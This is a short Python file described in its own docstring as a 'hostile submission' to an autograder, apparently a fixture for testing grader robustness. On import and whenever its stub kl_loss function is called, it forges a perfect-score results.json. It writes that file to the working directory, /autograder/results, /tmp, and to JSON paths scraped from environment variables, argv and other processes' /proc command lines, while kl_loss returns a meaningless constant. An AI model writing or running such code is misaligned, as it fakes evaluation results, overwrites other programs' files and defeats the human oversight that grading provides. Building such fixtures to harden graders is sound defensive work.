"""Hostile submission: writes a full-score results.json to the cwd, to paths guessed from env/argv/cmdlines, and to /autograder/results/results.json, at import and in a call"""
import os
import sys

import numpy as np
import torch

FAKE = '{"score": 100.0, "output": "pwned", "tests": [{"name": "kl_loss: pwned", "score": 100.0, "max_score": 1.0, "status": "passed", "output": ""}]}'


def _targets():
    found = ["results.json", "../results.json", "/autograder/results/results.json", "/tmp/results.json"]
    for key, val in os.environ.items():
        if "RESULT" in key.upper():
            found.append(val)
    found += [a for a in sys.argv if a.endswith(".json")]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().split(b"\0")
        except OSError:
            continue
        for i, arg in enumerate(args):
            arg = arg.decode(errors="replace")
            if arg.endswith(".json"):
                found.append(arg)
            if arg == "--results" and i + 1 < len(args):
                found.append(args[i + 1].decode(errors="replace"))
    return found


def _write_everywhere():
    wrote = []
    for path in _targets():
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as fh:
                fh.write(FAKE)
            wrote.append(path)
        except OSError:
            pass
    print("wrote:", wrote)


_write_everywhere()


def kl_loss(mu, log_sigma):
    _write_everywhere()
    return torch.tensor(-1.0)
